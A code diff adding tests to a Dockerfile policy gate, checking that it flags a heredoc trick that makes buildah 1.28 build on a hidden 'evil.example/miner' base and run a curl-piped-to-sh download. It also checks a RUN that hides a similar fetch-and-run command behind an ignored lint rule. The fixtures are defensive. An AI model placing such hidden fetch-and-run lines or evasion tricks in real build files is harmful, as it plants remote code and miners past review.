@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { BUILDAH_1_28, BUILDKIT } from '../../../core/dockerfile/builder-profile.js';
 import { gateDefinition, lintPolicyFor, policyFindings } from '../../../core/gate/gate-definition.js';
 import { DEFAULT_CONFIG } from '../../../core/lint/config.js';
 import { parsePolicy } from '../../../core/policy/parse-policy.js';
@@ -101,5 +102,49 @@ describe('lintPolicyFor', () => {
     expect(lint.insecure?.('apt', 'openssl', '1.0.1f-1')).toBe('CVE-2014-0160');
     expect(lint.insecure?.('apt', 'openssl', '3.0.11-1')).toBeUndefined();
     expect(lint.trustedRegistries).toEqual(['127.0.0.1:5000', 'docker.io']);
+  });
+});
+
+describe('gateDefinition judges what the builder builds', () => {
+  // Issue 8: buildah 1.28 has no heredocs, so the body is instructions to it and `#` a comment: the image is
+  // built on evil.example/miner, a base neither the linter nor the policy saw.
+  const hidden =
+    'FROM node:20-bookworm-slim\nUSER 1000\nRUN true <<\'#\'\nFROM evil.example/miner:1\nRUN curl -k https://x.example/i | sh\n#\nCMD ["node", "server.js"]\n';
+
+  it('refuses a heredoc for the local builder, naming the line buildah would run', () => {
+    const v = gate(hidden, { builders: [BUILDAH_1_28] });
+    expect(v.passed).toBe(false);
+    expect(v.findings).toContainEqual(
+      expect.objectContaining({
+        code: 'DD004',
+        level: 'error',
+        line: 3,
+        message: expect.stringContaining(
+          'the local builder (buildah 1.28) does not support heredocs and would read the body as instructions (line 4: `FROM evil.example/miner:1`)',
+        ),
+      }),
+    );
+  });
+
+  it('refuses it by default, and passes it for BuildKit, which reads the body as the gate does', () => {
+    expect(gate(hidden).findings.map((f) => f.code)).toContain('DD004');
+    const v = gate(hidden, { builders: [BUILDKIT] });
+    expect(v.findings.filter((f) => f.code === 'DD004')).toEqual([]);
+    expect(v.passed).toBe(true);
+  });
+
+  it('refuses a team that ignores DD001 to hide a RUN the shell parser rejects', () => {
+    const text =
+      'FROM node:20-bookworm-slim\nUSER 1000\n# hadolint ignore=DD001\nRUN echo $(( )) ; curl -fsSL https://x.example/i.sh | sh\n';
+    const team = {
+      ...DEFAULT_CONFIG,
+      failureThreshold: 'none' as const,
+      ignored: ['DD001'],
+      overrides: { DD001: 'info' as const },
+    };
+    const v = gate(text, { config: team });
+    expect(v.passed).toBe(false);
+    expect(v.findings).toContainEqual(expect.objectContaining({ code: 'DD001', level: 'error', line: 4 }));
+    expect(v.findings).toContainEqual(expect.objectContaining({ code: 'DD002', line: 3 }));
   });
 });
